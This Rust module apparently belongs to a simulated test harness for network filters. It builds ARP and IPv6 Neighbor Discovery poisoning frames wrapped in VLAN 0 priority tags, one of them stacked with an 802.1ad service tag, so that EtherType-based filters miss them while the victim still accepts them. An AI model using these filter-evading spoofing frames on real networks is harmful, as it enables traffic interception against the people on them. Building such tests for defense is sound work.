//! A tag with VID 0 carries a priority and no VLAN: receivers take it off and read on (IEEE 802.1Q).
//! A filter that looks for ARP by its EtherType sees a tag, and the victim sees ARP.

use super::Attack;
use crate::error::Result;
use crate::frame::{self, Op, priority_tagged};
use crate::nd::{TARGET, advertisement, link_layer};
use crate::person::{ATTACKER, GATEWAY, VICTIM};
use crate::scene::Scene;
use crate::stage::Stage;

/// One tag around ARP.
pub(super) const ARP: Attack = Attack {
    name: "ARP in VLAN 0",
    what: "ARP poisoning in a priority tag",
    effect: "victim believes it",
    scene: Scene::street,
    run: arp,
};

fn arp(stage: &Stage) -> Result<bool> {
    stage.acquaint(&stage.victim, &stage.gateway, GATEWAY.v4().into())?;
    let (lie, victim) = ((ATTACKER.mac(), GATEWAY.v4()), (VICTIM.mac(), VICTIM.v4()));
    let frame = priority_tagged(0x8100, &frame::arp(Op::Reply, lie, victim, VICTIM.mac()));
    stage.poison(
        &[frame],
        &stage.victim,
        (GATEWAY.v4().into(), ATTACKER.mac()),
    )
}

/// Two tags, the outer a service tag (802.1ad), around an advertisement: for filters that take off one.
pub(super) const STACKED: Attack = Attack {
    name: "ND in stacked VLAN 0",
    what: "ND poisoning in two priority tags",
    effect: "victim believes it",
    scene: Scene::street,
    run: stacked,
};

fn stacked(stage: &Stage) -> Result<bool> {
    stage.acquaint(&stage.victim, &stage.gateway, GATEWAY.v6().into())?;
    let message = advertisement(GATEWAY.v6(), &link_layer(TARGET, ATTACKER.mac()));
    let ends = (GATEWAY.v6(), VICTIM.v6());
    let plain = frame::nd(ATTACKER.mac(), VICTIM.mac(), ends, &message);
    let frame = priority_tagged(0x88a8, &priority_tagged(0x8100, &plain));
    stage.poison(
        &[frame],
        &stage.victim,
        (GATEWAY.v6().into(), ATTACKER.mac()),
    )
}
